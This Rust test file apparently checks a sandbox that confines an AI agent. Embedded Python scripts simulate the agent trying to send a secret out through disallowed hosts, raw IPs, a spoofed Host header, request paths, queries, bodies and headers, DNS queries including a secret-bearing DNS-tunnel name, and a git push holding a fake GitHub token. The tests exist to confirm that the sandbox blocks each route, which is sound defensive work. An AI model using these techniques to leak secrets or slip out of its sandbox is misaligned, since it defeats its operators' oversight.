//! The agent tries to get out, or to send a secret out. Each attempt has a control that is allowed and succeeds.

use crate::bottle::{ASK, Bottle, SECRET, docker};

/// Pushes a file with a text through git-gate.
const PUSH: &str = "import os, subprocess, sys, tempfile
def git(*words): return subprocess.run(['git', '-c', 'user.name=a', '-c', 'user.email=a@example.org', *words], capture_output=True, text=True)
os.chdir(tempfile.mkdtemp())
git('init', '--quiet'); open('README', 'w').write(sys.argv[1]); git('add', '.'); git('commit', '--quiet', '--message', 'x')
print(git('push', os.environ['GIT_GATE_URL'] + '/project', 'HEAD:refs/heads/main').stderr)";

/// Asks a resolver by its address.
const RESOLVE: &str = "import socket, sys
try:
    outside = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); outside.settimeout(3)
    outside.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x09supervise\\0\\0\\1\\0\\1', (sys.argv[1], 53))
    print('heard', len(outside.recv(512)))
except OSError: print('no path')";

/// Asks the engine's resolver for a name, and listens where a name server of the agent's own would.
const CRAFT: &str = "import socket, sys
name = b''.join(bytes([len(part)]) + part for part in sys.argv[1].encode().split(b'.'))
own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); own.bind(('127.0.0.1', 53)); own.settimeout(3)
asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
asking.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + name + b'\\0\\0\\1\\0\\1', ('127.0.0.11', 53))
try: print('came back' if name in own.recv(512) else 'something else came')
except OSError: print('went elsewhere')";

/// Every attempt, and its control.
pub(crate) fn fail(bottle: &Bottle) {
    let ask = |url: &str, more: serde_json::Value| bottle.agent(ASK, &[url, &more.to_string()]);
    let plain = serde_json::json!({});
    let allowed = "http://origin:8000/";
    assert!(ask(allowed, plain.clone()).starts_with("shown"), "the allowed host answers");
    assert_eq!(ask("http://elsewhere.example/", plain.clone()), "403", "a host that is not allowed");

    let format = "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}";
    let address = docker(&["inspect", "--format", format, &bottle.origin()]);
    let literal = format!("http://{}:8000/", address.trim());
    assert_eq!(ask(&literal, plain.clone()), "403", "an address that is not allowed");
    let spoofed = serde_json::json!({ "headers": { "Host": "origin:8000" } });
    assert_eq!(ask(&literal, spoofed), "403", "an address under an allowed name");

    for harmless in [true, false] {
        let word = if harmless { "nothing-of-note" } else { SECRET };
        for (how, url, more) in [
            ("path", format!("{allowed}{word}"), plain.clone()),
            ("query", format!("{allowed}?a={word}"), plain.clone()),
            ("body", allowed.to_owned(), serde_json::json!({ "body": format!("a={word}") })),
            ("header", allowed.to_owned(), serde_json::json!({ "headers": { "X-Note": word } })),
        ] {
            let answer = ask(&url, more);
            assert_eq!(answer.starts_with("shown"), harmless, "{how} {word}: {answer}");
            assert!(harmless || answer == "403", "{how}: {answer}");
        }
    }

    // The engine's own resolver answers; outside resolvers are unreachable.
    assert!(bottle.agent(RESOLVE, &["127.0.0.11"]).starts_with("heard"), "the engine's resolver answers");
    assert_eq!(bottle.agent(RESOLVE, &["8.8.8.8"]), "no path");
    // A question that the engine cannot answer goes to the name server that the plan gives the agent: to itself.
    let name = format!("{SECRET}.example");
    assert_eq!(bottle.agent(CRAFT, &[&name]), "came back");
    let network = format!("bot-bottle-internal-{}", bottle.slug);
    let ungiven =
        docker(&["run", "--rm", "--network", &network, "bottle-live/debian", "python3", "-c", CRAFT, &name]);
    assert_eq!(ungiven.trim(), "went elsewhere", "without a name server of its own");

    let said = bottle.agent(PUSH, &["token = 'ghp_k3Jq9vZx7LmN2bRt8YwPsD4fHgAe6UcX1oVi'"]);
    assert!(said.contains("gitleaks found a secret"), "{said}");
    for contact in ["resolve", "refused", "unreachable", "upstream did not"] {
        assert!(!said.contains(contact), "the upstream was asked before the scan: {said}");
    }
    let said = bottle.agent(PUSH, &["nothing of note"]);
    assert!(
        said.contains("the upstream did not take the push") && !said.contains("gitleaks found"),
        "{said}"
    );
}
